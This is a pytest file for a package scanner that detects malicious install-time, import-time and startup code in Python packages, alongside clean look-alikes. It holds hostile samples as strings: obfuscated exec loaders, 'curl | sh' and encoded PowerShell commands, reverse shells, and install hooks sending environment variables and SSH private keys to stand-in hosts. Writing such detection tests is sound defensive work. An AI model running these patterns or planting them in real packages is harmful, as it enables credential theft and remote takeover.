"""One harmless sample for each technique that the check knows, and its look-alikes in clean packages.

Payloads only print, and addresses are of domains that can never exist.
"""

from __future__ import annotations

import ast
import base64
import inspect
import re
import zlib

import pytest

from wharfinger_daemon.checks.eager_code import _LOW_PRECISION, MAX_SOURCE_BYTES, EagerCodeCheck
from wharfinger_daemon.checks.syntax import effects, interpreter
from wharfinger_daemon.scanning.model import Subject, SubjectKind
from wharfinger_daemon.scanning.plugin import ArtifactFormat, Member, ScanContext
from wharfinger_daemon.scanning.weights import WEIGHTS

PRINTED = base64.b64encode(b"print('hello')").decode()
PACKED = base64.b64encode(zlib.compress(b"print('hello')"))[::-1]
HEX = b"print('hello')".hex()
NUMBERS = list(b"print('hello')")


def examined(source: str | bytes, name: str = "pkg-1.0/setup.py") -> list[tuple[str, int]]:
    check = EagerCodeCheck()
    check.begin(ScanContext(Subject(SubjectKind.FILE, "pkg", "1.0", "pkg-1.0.tar.gz"), ArtifactFormat.SDIST, 1000))
    content = source.encode() if isinstance(source, str) else source
    return [(evidence.rule, evidence.line) for evidence in check.member(Member(name, content))]


def rules(source: str | bytes, name: str = "pkg-1.0/setup.py") -> set[str]:
    return {rule for rule, _ in examined(source, name)}


DECODED = {
    "base64": f"import base64\nexec(base64.b64decode('{PRINTED}'))",
    "alias of the module": f"import base64 as b\nexec(b.b64decode('{PRINTED}').decode())",
    "alias of the function": f"from base64 import b64decode as d\nexec(d('{PRINTED}'))",
    "alias of exec": f"import base64\nrun = exec\nrun(base64.b64decode('{PRINTED}'))",
    "eval of compile": f"import base64\neval(compile(base64.b64decode('{PRINTED}'), 'x', 'exec'))",
    "through a variable": f"import base64\na = '{PRINTED}'\nb = base64.b64decode(a)\nc = b.decode()\nexec(c)",
    "lambda": "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
    f"exec((_)({PACKED!r}))",
    "hex": f"exec(bytes.fromhex('{HEX}'))",
    "codecs": "import codecs\nexec(codecs.decode(\"cevag('uryyb')\", 'rot13'))",
    "marshal": "import marshal\nexec(marshal.loads(b'...'))",
    "function type": "import marshal, types\ntypes.FunctionType(marshal.loads(b'...'), globals())()",
    "fernet": "from cryptography.fernet import Fernet\nexec(Fernet(b'key').decrypt(b'token'))",
    "cipher of some library": "import somecipher\nexec(somecipher.new(b'key').decrypt(b'token'))",
    "importlib": f"import importlib\nexec(importlib.import_module('base64').b64decode('{PRINTED}'))",
    "exec inside exec": f"exec(\"import base64\\nexec(base64.b64decode('{PRINTED}'))\")",
    "decoded twice": "import base64\nexec(base64.b64decode("
    + repr(base64.b64encode(f"import base64; exec(base64.b64decode('{PRINTED}'))".encode()).decode())
    + "))",
    "in a function that is called": f"import base64\ndef f(x):\n    exec(base64.b64decode(x))\nf('{PRINTED}')",
    "returned by a function": f"import base64\ndef f():\n    return base64.b64decode('{PRINTED}')\nexec(f())",
    "in a method": "import base64\n"
    "class A:\n"
    "    def __init__(self, x):\n"
    "        exec(base64.b64decode(x))\n"
    f"A('{PRINTED}')",
    "in a thread": "import base64, threading\n"
    "def f():\n"
    f"    exec(base64.b64decode('{PRINTED}'))\n"
    "threading.Thread(target=f).start()",
    "at exit": f"import base64, atexit\ndef f():\n    exec(base64.b64decode('{PRINTED}'))\natexit.register(f)",
    "in try and with": "import base64\n"
    "try:\n"
    "    with open('x') as f:\n"
    f"        exec(base64.b64decode('{PRINTED}'))\n"
    "except OSError:\n"
    "    pass",
    "in an exception handler": "import base64\n"
    "try:\n"
    "    import x\n"
    "except ImportError:\n"
    f"    exec(base64.b64decode('{PRINTED}'))",
    "in match": f"import base64\nmatch 1:\n    case 1:\n        exec(base64.b64decode('{PRINTED}'))",
    "in a loop": f"import base64\nfor part in ['{PRINTED}']:\n    exec(base64.b64decode(part))",
    "in a comprehension": f"import base64\n[exec(base64.b64decode(part)) for part in ['{PRINTED}']]",
    "in a decorator": f"import base64\n@exec(base64.b64decode('{PRINTED}'))\ndef f(): ...",
    "in a default": f"import base64\ndef f(x=exec(base64.b64decode('{PRINTED}'))): ...",
    "in a class body": f"import base64\nclass A:\n    exec(base64.b64decode('{PRINTED}'))",
    "walrus": f"import base64\nif (x := base64.b64decode('{PRINTED}')):\n    exec(x)",
    "added up": f"import base64\nx = ''\nx += '{PRINTED[:8]}'\nx += '{PRINTED[8:]}'\nexec(base64.b64decode(x))",
    "confusable identifiers": f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{PRINTED}'))",
    "python -c": "import subprocess, sys\n"
    f"subprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b64decode('{PRINTED}'))\"])",
    "globals": f"import base64\nglobals()['__builtins__'].exec(base64.b64decode('{PRINTED}'))",
    "dropped and started": "import base64, subprocess\n"
    "with open('a.exe', 'wb') as f:\n"
    "    f.write(base64.b64decode('AAAA'))\n"
    "subprocess.Popen(['a.exe'])",
    "run by a command class": "import base64\n"
    "from setuptools.command.install import install\n"
    "class A(install):\n"
    "    def run(self):\n"
    f"        exec(base64.b64decode('{PRINTED}'))",
    "run by an inherited command": "import base64\n"
    "from setuptools import Command\n"
    "class B(Command):\n"
    "    def run(self):\n"
    "        self.go()\n"
    "    def go(self):\n"
    f"        exec(base64.b64decode('{PRINTED}'))",
    "deep in a sum": "import base64\nexec(base64.b64decode("
    + "+".join(f"'{letter}'" for letter in PRINTED * 40)
    + "))",
}


@pytest.mark.parametrize("source", DECODED.values(), ids=DECODED.keys())
def test_decoded_code_that_is_executed_is_found(source: str) -> None:
    assert "install-decoded-execution" in rules(source)


@pytest.mark.parametrize("source", list(DECODED.values())[:6], ids=list(DECODED.keys())[:6])
def test_the_same_is_found_on_import(source: str) -> None:
    assert "import-decoded-execution" in rules(source, "pkg/__init__.py")
    assert "import-decoded-execution" in rules(source, "pkg/data.zip!/deep/module.pyw")


DISGUISED = {
    "concatenation": "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "reversed": "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "character codes": "import os\ngetattr(os, chr(115) + chr(121) + chr(115) + 'tem')('true')",
    "joined characters": "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('true')",
    "mapped characters": "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('true')",
    "mapped by a lambda": "import os\n"
    "getattr(os, ''.join(map(lambda c: chr(c ^ 1), [114, 120, 114, 117, 100, 108])))('true')",
    "bytes": "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('true')",
    "replaced": "import os\ngetattr(os, 'sXyXsXtXeXm'.replace('X', ''))('true')",
    "imported by a computed name": "__import__('o' + 's').system('true')",
    "builtins by a computed name": "__builtins__.__dict__['ex' + 'ec']('print()')",
    "vars of builtins": "import builtins\nvars(builtins)['ev' + 'al']('1')",
    "modules by a computed name": "import sys\nsys.modules['o' + 's'].system('true')",
    "formatted": "import os\na = 'sys'\ngetattr(os, f'{a}tem')('true')",
    "decoded": "import os, base64\n"
    f"getattr(os, base64.b64decode('{base64.b64encode(b'system').decode()}').decode())('true')",
}


@pytest.mark.parametrize("source", DISGUISED.values(), ids=DISGUISED.keys())
def test_a_dangerous_function_that_is_reached_by_a_computed_name_is_found(source: str) -> None:
    assert "install-disguised-call" in rules(source)


DOWNLOADED = {
    "exec of requests": "import requests\nexec(requests.get('https://example.invalid/x').text)",
    "exec of urlopen": "from urllib.request import urlopen as u\nexec(u('https://example.invalid/x').read().decode())",
    "exec of a session": "import requests\n"
    "s = requests.Session()\n"
    "r = s.get('https://example.invalid/x')\n"
    "exec(r.content)",
    "exec of httpx": "import httpx\neval(httpx.get('https://example.invalid/x').text)",
    "exec of a socket": "import socket\ns = socket.socket()\ns.connect(('example.invalid', 1))\nexec(s.recv(1024))",
    "wrapped in try": "try:\n"
    "    import urllib.request as r\n"
    "    exec(r.urlopen('https://example.invalid/x').read())\n"
    "except Exception:\n"
    "    pass",
}


@pytest.mark.parametrize("source", DOWNLOADED.values(), ids=DOWNLOADED.keys())
def test_downloaded_code_that_is_executed_is_found(source: str) -> None:
    assert "install-download-execution" in rules(source)


STARTED = {
    "written then started": "import requests, os\nr = requests.get('https://example.invalid/a.exe')\n"
    "with open('a.exe', 'wb') as f:\n    f.write(r.content)\nos.startfile('a.exe')",
    "written to a computed path": "import requests, os, subprocess, tempfile\n"
    "p = os.path.join(tempfile.gettempdir(), 'a.exe')\n"
    "open(p, 'wb').write(requests.get('https://example.invalid/a').content)\nsubprocess.Popen([p])",
    "urlretrieve": "from urllib.request import urlretrieve\n"
    "import subprocess\n"
    "urlretrieve('https://example.invalid/a', 'payload.bin')\n"
    "subprocess.call('./payload.bin', shell=True)",
    "pathlib": "import pathlib, requests, os\n"
    "p = pathlib.Path('payload.py')\n"
    "p.write_bytes(requests.get('https://example.invalid/a').content)\n"
    "os.system(f'python {p}')",
    "the command itself": "import os, requests\nos.system(requests.get('https://example.invalid/cmd').text)",
    "wget": "import wget, subprocess\np = wget.download('https://example.invalid/a')\nsubprocess.run([p])",
}


@pytest.mark.parametrize("source", STARTED.values(), ids=STARTED.keys())
def test_a_downloaded_program_that_is_started_is_found(source: str) -> None:
    assert "install-downloaded-process" in rules(source)


COMMANDS = {
    "encoded powershell": "import subprocess\n"
    f"subprocess.Popen('powershell -WindowStyle Normal -EncodedCommand {PRINTED}')",
    "encoded powershell in a list": f"import subprocess\nsubprocess.Popen(['powershell', '-enc', '{PRINTED}'])",
    "powershell download": "import os\nos.system('powershell iwr https://example.invalid/x -OutFile x; ./x')",
    "curl to a shell": "import os\nos.system('curl -s https://example.invalid/x | sh')",
    "with a computed host": "import os\nh = input()\nos.system(f'curl -s https://{h}/x | bash')",
    "base64 to a shell": "import os\nos.popen('echo aGVsbG8= | base64 -d | sh')",
    "bash reverse shell": "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/9 0>&1')",
    "mshta": "import os\nos.system('mshta https://example.invalid/x.hta')",
    "persistence": "import subprocess\nsubprocess.run('schtasks /create /tn x /tr y /sc onlogon')",
    "download and run": "import os\nos.system('wget https://example.invalid/x -O /tmp/x && chmod +x /tmp/x')",
}


@pytest.mark.parametrize("source", COMMANDS.values(), ids=COMMANDS.keys())
def test_a_suspicious_command_is_found(source: str) -> None:
    assert "install-suspicious-process" in rules(source)
    assert "import-suspicious-process" in rules(source, "pkg/module.py")


EXFILTRATION = {
    "environment as form": "import os, requests\nrequests.post('https://example.invalid', data=dict(os.environ))",
    "environment as JSON": "import os, json, urllib.request\n"
    "urllib.request.urlopen('https://example.invalid', data=json.dumps(os.environ.copy()).encode())",
    "environment unpacked": "import os, requests\nrequests.post('https://example.invalid', json={'e': {**os.environ}})",
    "host name in the address": "import socket, urllib.request\n"
    "urllib.request.urlopen('https://example.invalid/?h=' + socket.gethostname())",
    "user in a dictionary": "import getpass, requests\n"
    "d = {'u': getpass.getuser()}\n"
    "requests.post('https://example.invalid', json=d)",
    "user through a function": "import getpass, requests\n"
    "def facts():\n"
    "    return {'u': getpass.getuser()}\n"
    "requests.post('https://example.invalid', json=facts())",
    "looked up in DNS": "import socket\nsocket.gethostbyname(socket.gethostname() + '.abc.example.com')",
    "over a socket": "import socket, platform\n"
    "s = socket.socket()\n"
    "s.connect(('example.invalid', 1))\n"
    "s.sendall(platform.node().encode())",
    "output of whoami": "import subprocess, requests\n"
    "requests.post('https://example.invalid', data=subprocess.check_output('whoami'))",
    "a private key": "import os, requests\n"
    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "requests.post('https://example.invalid', data=k)",
    "in a command class": "import os, requests\n"
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "class I(install):\n"
    "    def run(self):\n"
    "        install.run(self)\n"
    "        requests.post('https://example.invalid', json=dict(os.environ))\n"
    "setup(cmdclass={'install': I})",
}


@pytest.mark.parametrize("source", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_facts_about_the_host_that_are_sent_are_found(source: str) -> None:
    assert "install-exfiltration" in rules(source)


def test_a_reverse_shell_is_found() -> None:
    source = (
        "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 9))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n"
    )
    assert "import-reverse-shell" in rules(source, "pkg/__init__.py")
    assert "install-reverse-shell" in rules(source)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import requests\nrequests.get('https://example.invalid/count')", "network"),
        ("import http.client\nc = http.client.HTTPSConnection('example.invalid')\nc.request('GET', '/')", "network"),
        ("import urllib3\nurllib3.PoolManager().request('GET', 'https://example.invalid/')", "network"),
        ("import subprocess\nsubprocess.call(['curl', '-O', 'https://example.invalid/a.tar.gz'])", "network-process"),
        ("import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'six'])", "package-install"),
    ],
)
def test_the_network_during_installation_is_found_and_in_example_programs_it_is_not(source: str, rule: str) -> None:
    assert {f"install-{rule}"} == rules(source)
    assert {f"import-{rule}"} == rules(source, "pkg/module.py")
    assert set() == rules(source, "pkg-1.0/examples/module.py")
    assert set() == rules(source, "pkg-1.0/pkg/test_module.py")


CLEAN = {
    "version file": "exec(open('pkg/version.py').read())",
    "version file with with": "with open('pkg/version.py') as f:\n    exec(f.read())",
    "version file compiled": "exec(compile(open('pkg/version.py', 'rb').read(), 'pkg/version.py', 'exec'), {})",
    "git describe": "import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()",
    "compiler": "import subprocess, os\n"
    "subprocess.check_call(['cmake', '..'], env=dict(os.environ, CC='gcc'))\n"
    "os.system('make')",
    "environment is read": "import os\nif os.environ.get('CI'):\n    print(os.environ['HOME'])",
    "host name is read": "import socket\nprint(socket.gethostname())\nip = socket.gethostbyname(socket.gethostname())",
    "decoded and not executed": "import base64\n"
    f"LOGO = base64.b64decode('{PRINTED}')\n"
    "open('logo.png', 'wb').write(LOGO)",
    "eval of a constant": "import os\nx = eval('1 + 1')\nexec('y = 2')",
    "getattr of a constant": "import os\ngetattr(os, 'getpid')()\ngetattr(os, 'P_' + 'WAIT', None)",
    "optional import": "import importlib\nfor n in ('a', 'b'):\n    importlib.import_module('pkg.' + n)",
    "regular expression": "import re\nre.compile('x').match('y')\ndef compile(x): ...\ncompile('x')",
    "command class": "import subprocess\n"
    "from setuptools import Command, setup\n"
    "class T(Command):\n"
    "    def run(self):\n"
    "        subprocess.call(['pytest'])\n"
    "setup(cmdclass={'test': T})",
    "loopback": "import requests\nrequests.get('http://localhost:8080/health')\nrequests.get('http://127.0.0.1/')",
    "names only": "import requests, subprocess, socket\nsession = requests.Session()\nsocket.socket().close()",
    "comment": f"# exec(base64.b64decode('{PRINTED}'))\n'''exec(base64.b64decode(x))'''",
    "type checking": "from typing import TYPE_CHECKING\n"
    "if TYPE_CHECKING:\n"
    "    from os import system\n"
    "    system('curl https://example.invalid | sh')\n"
    "else:\n"
    "    import os",
    "platform": "import platform\nurl = f'https://example.invalid/{platform.system()}-{platform.machine()}.zip'",
    "codecs": "import codecs\n"
    "codecs.decode('x', 'utf-8')\n"
    "with codecs.open('README', encoding='utf-8') as f:\n"
    "    f.read()",
    "zlib of a table": "import zlib\nTABLE = zlib.decompress(b'...')",
}


@pytest.mark.parametrize("source", CLEAN.values(), ids=CLEAN.keys())
@pytest.mark.parametrize("name", ["pkg-1.0/setup.py", "pkg/__init__.py"])
def test_look_alikes_in_clean_packages_are_quiet(source: str, name: str) -> None:
    assert set() == rules(source, name)


def test_a_main_guard_runs_in_a_setup_script_and_not_in_a_module() -> None:
    source = (
        "import os\nif __name__ == '__main__':\n    os.system('curl https://example.invalid | sh')\nelse:\n    x = 1"
    )
    assert {"install-suspicious-process"} == rules(source)
    assert set() == rules(source, "pkg/module.py")


def test_a_setup_script_that_is_not_at_the_root_is_a_module() -> None:
    assert {"import-network"} == rules("import requests\nrequests.get('https://example.invalid')", "pkg/core/setup.py")


def test_the_line_is_where_it_happens() -> None:
    source = f"import base64\n\n\nx = 1; exec(base64.b64decode('{PRINTED}'))\n"
    assert [("install-decoded-execution", 4)] == examined(source)


def test_the_line_of_nested_code_is_that_of_the_outer_exec() -> None:
    source = "\n\nexec('''\n\n\nimport os\nos.system(\"curl https://example.invalid | sh\")\n''')\n"
    assert [("install-suspicious-process", 3)] == examined(source)


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("import os; os.system('curl https://example.invalid | sh')", {"startup-code", "startup-suspicious-process"}),
        (f"import base64; exec(base64.b64decode('{PRINTED}'))", {"startup-code", "startup-decoded-execution"}),
        ("import\tsys", {"startup-code"}),
        ("import (", {"startup-code", "unanalysable-python"}),
        ("import distutils-precedence", set()),
        ("import _virtualenv", set()),
        ("import __editable___pkg_finder; __editable___pkg_finder.install()", set()),
        ("../src", set()),
        ("# import os", set()),
        (" import os", set()),
    ],
)
def test_lines_of_pth_files_run_when_they_begin_with_import(line: str, found: set[str]) -> None:
    assert found == rules(f"/some/folder\n{line}\n", "pkg-1.0.data/purelib/pkg.pth")


def test_site_customisation_runs_at_start_up() -> None:
    source = "import os\nos.system('curl https://example.invalid | sh')"
    assert {"startup-suspicious-process"} == rules(source, "usercustomize.py")


def test_other_files_are_not_read_as_python() -> None:
    assert set() == rules(DECODED["base64"], "pkg/notes.txt")


def test_python_2_is_no_alarm() -> None:
    source = "import os, sys\nprint 'hello', sys.path, getattr(os, 'x')\n"
    assert [("unparsable-python", 0)] == examined(source, "pkg/__init__.py")
    assert [("unanalysable-python", 0)] == examined(source), "installation is no place to look away"
    assert [] == examined("import subprocess\nprint 'hello'\n", "pkg/module.py")


@pytest.mark.parametrize("name", ["pkg-1.0/setup.py", "pkg/module.py"])
def test_a_file_that_only_newer_pythons_parse_does_not_hide_its_payload(name: str) -> None:
    source = f"import base64\nx: int ==== 1\nexec(base64.b64decode('{PRINTED}'))\n"
    stage = "install" if name.endswith("setup.py") else "import"
    assert [(f"{stage}-decoded-execution", 3)] == examined(source, name)


def test_null_bytes_and_unknown_encodings_are_no_crash() -> None:
    assert {"unanalysable-python"} == rules(b"import os\nexec('x')\0\n")
    assert {"unanalysable-python"} == rules(b"# coding: no-such-codec\nexec('x')\n")
    assert {"unanalysable-python"} == rules(b"\xff\xfe\nexec('x')\n")


def test_a_chain_of_calls_that_is_too_deep_to_follow_is_said_and_recursion_is_not() -> None:
    chain = "".join(f"def f{n}():\n    f{n + 1}()\n" for n in range(50)) + "def f50():\n    exec('x')\nf0()\n"
    assert {"unanalysable-python"} == rules(chain)
    assert set() == rules("def walk(n):\n    eval('1')\n    return walk(n - 1)\nwalk(99)\n")


@pytest.mark.parametrize(
    "source",
    [
        "exec" + "(" * 100_000,
        "x = " + "-" * 50_000 + "1; exec(1)",
        "x = " + "f(" * 90 + "exec" + ")" * 90,
        "x = a" + ".b()" * 900 + "; exec(1)",
        "exec; " + "if 1:\n" + "".join(" " * depth + "if 1:\n" for depth in range(1, 90)) + " " * 91 + "pass",
    ],
    ids=["parentheses", "unary", "calls", "attributes", "blocks"],
)
def test_deep_nesting_is_no_crash(source: str) -> None:
    assert rules(source) <= {"unparsable-python", "unanalysable-python"}


def test_a_parser_that_gives_up_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    def parse(source: str | bytes) -> ast.Module:
        raise RecursionError

    monkeypatch.setattr("wharfinger_daemon.checks.eager_code.parse", parse)
    assert {"unanalysable-python"} == rules("exec('x')")


def test_a_huge_setup_script_is_told_and_a_huge_module_is_not() -> None:
    huge = b"exec('x')\n" + b"#" * MAX_SOURCE_BYTES
    assert {"unanalysable-python"} == rules(huge)
    assert set() == rules(huge, "pkg/tables.py")


def test_more_work_than_is_followed_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(interpreter, "MAX_STEPS", 50)
    assert {"unanalysable-python"} == rules("exec('1')\n" * 100)


@pytest.mark.parametrize(
    "source",
    [
        "def f():\n    exec('f()')\n    f()\nf()",
        "exec('exec(\"exec(1)\")')\nx = 'exec(x)'\nexec(x)",
        "class A:\n    def __init__(self):\n        A()\nA()\nexec('x')",
        "f = lambda: f()\nf()\nexec('x')",
        "x = 'a' * 10**9\nexec(x)\ny = b'a' * -1\nz = 2 ** 10**9\n w = 1",
        "x = 'a' * 3000000\nx = x + x\nx = x + x\nexec(x.replace('a', 'aaaa'))",
        "import base64\nexec(base64.b64decode('!'))\nexec(base64.b64decode(5))\nexec(base64.b32decode('1'))",
        "import zlib\nzlib.decompress(b'x')\nimport codecs\ncodecs.decode('zz', 'hex')\ncodecs.decode(b'x', 'rot13')",
        "chr(-1)\nchr('x')\nord('xx')\nbytes([300])\nbytes(['x'])\n'x'[5]\n'x'[::0]\n5[0]\n''.join([1])\nexec(1)",
        "1 // 0\n1 >> 10**6\n1 << 10**9\n'a' - 'b'\n'a' + b'b'\n'%s' % 1\n'x'.decode(1)\nb'x'.decode('nope')\nexec(1)",
        "(a, *b), c.d, e[0] = 1, 2, 3\n[x for x in y if x for z in x]\n{**a}\nexec(*a, **b)\ndel a\nassert a\nraise a",
        "async def f(x, *a, y=1, **k):\n"
        "    async with a as b:\n"
        "        async for c in d:\n"
        "            await e\n"
        "    return\n"
        "import asyncio\nasyncio.run(f(1, 2, 3))\nexec(1)",
        "exec('not python (')\nexec('\\0')\nclass A(B): ...\nclass C(A): ...\nx = f'{C()}'\nexec(x)",
        "T = [" + "'a', " * 100 + "]\nexec(T[0])",
        "x = [1, 2]\nx[0](1)\nx[5]\n'a'[0:'b']\n-x\nexec(x + [3])\ny = 3 * 'a'\n'a' * 10**9\nexec(y)",
        "'a'.replace('a', 'b', 1)\nb'6578'.decode('hex')\nb'x'.hex()\n'x'.strip('y')\n'x'.upper().lower()\nexec(1)",
        "getattr(exec)\n"
        "__import__()\n"
        "vars()\n"
        "map(exec)\n"
        "map(f, g)\n"
        "map(str, 'abc')\n"
        "sys.modules[1]\n"
        "globals()['x']\n"
        "exec()",
    ],
)
def test_odd_code_is_no_crash(source: str) -> None:
    for name in ("pkg-1.0/setup.py", "pkg/__init__.py"):
        rules(source, name)


def test_a_download_without_a_name_of_its_own_that_is_started_is_found() -> None:
    source = "import wget, subprocess\nwget.download('https://example.invalid/a', out='payload.bin')\n"
    source += "subprocess.run(['./payload.bin'])"
    assert "install-downloaded-process" in rules(source)


def test_words_of_a_computed_command_are_read_as_they_would_be_run() -> None:
    source = "import os\nc = ['curl', ' -s ', 'https://example.invalid/x']\n"
    source += "os.system(''.join(c) + ' | ' + 'hs'[1] + 'hs'[0])"
    assert "install-suspicious-process" in rules(source)


def test_attributes_of_objects_are_followed() -> None:
    source = f"import base64\nclass A: ...\na = A()\na.x = exec\na.y, b = base64.b64decode('{PRINTED}'), 1\nexec(b)\n"
    assert set() == rules(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os, base64\nf = eval('os.sy' + 'stem')\nf(base64.b64decode('" + PRINTED + "').decode())",
        "import os, base64\nlet = eval('os')\nlet.system(base64.b64decode('" + PRINTED + "').decode())",
    ],
)
def test_a_name_that_eval_gives_is_the_function(source: str) -> None:
    assert "install-decoded-execution" in rules(source)


@pytest.mark.parametrize(
    "command",
    [
        "subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), 'hello.py')])",
        "os.startfile(os.path.join(here, 'bin', 'bot.exe'))",
        "os.system('start run.bat')",
    ],
)
def test_a_program_of_the_package_that_an_installation_starts_is_found(command: str) -> None:
    source = f"import os, subprocess, sys\n{command}"
    assert {"install-program-file"} == rules(source)
    assert {"import-program-file"} == rules(source, "pkg/module.py")
    assert set() == rules(source, "pkg-1.0/scripts/module.py")
    assert set() == rules(f"import os, subprocess, sys\ndef f():\n    {command}", "pkg/module.py")


@pytest.mark.parametrize(
    "command", ["'git.exe', 'describe'", "'cmake', '--build'", "'python3.exe', '-V'", "'make.bat'"]
)
def test_the_tools_of_builds_are_no_programs_of_the_package(command: str) -> None:
    assert set() == rules(f"import subprocess\nsubprocess.call([{command}])")


@pytest.mark.parametrize("start", ["'x'", "[1]", "(f(),)"])
def test_what_doubles_without_end_is_followed_to_its_end(start: str) -> None:
    source = f"a = {start}\n" + "a = a + a\n" * 200 + f"import base64\nexec(base64.b64decode('{PRINTED}'))"
    assert {"install-decoded-execution"} == rules(source)


def test_every_behaviour_has_a_weight_at_every_stage() -> None:
    behaviours = set(re.findall(r'_report\(\s*"([a-z-]+)"', inspect.getsource(effects)))
    assert len(behaviours) == 13
    eager = behaviours - {"hidden-execution"}
    expected = {f"{stage}-{name}" for stage in ("install", "import", "startup") for name in eager}
    expected |= {f"latent-{name}" for name in behaviours - _LOW_PRECISION}
    expected |= {"aside-behaviour", "startup-code", "unparsable-python", "unanalysable-python"}
    assert expected == {rule for check, rule in WEIGHTS if check == "eager-code"}
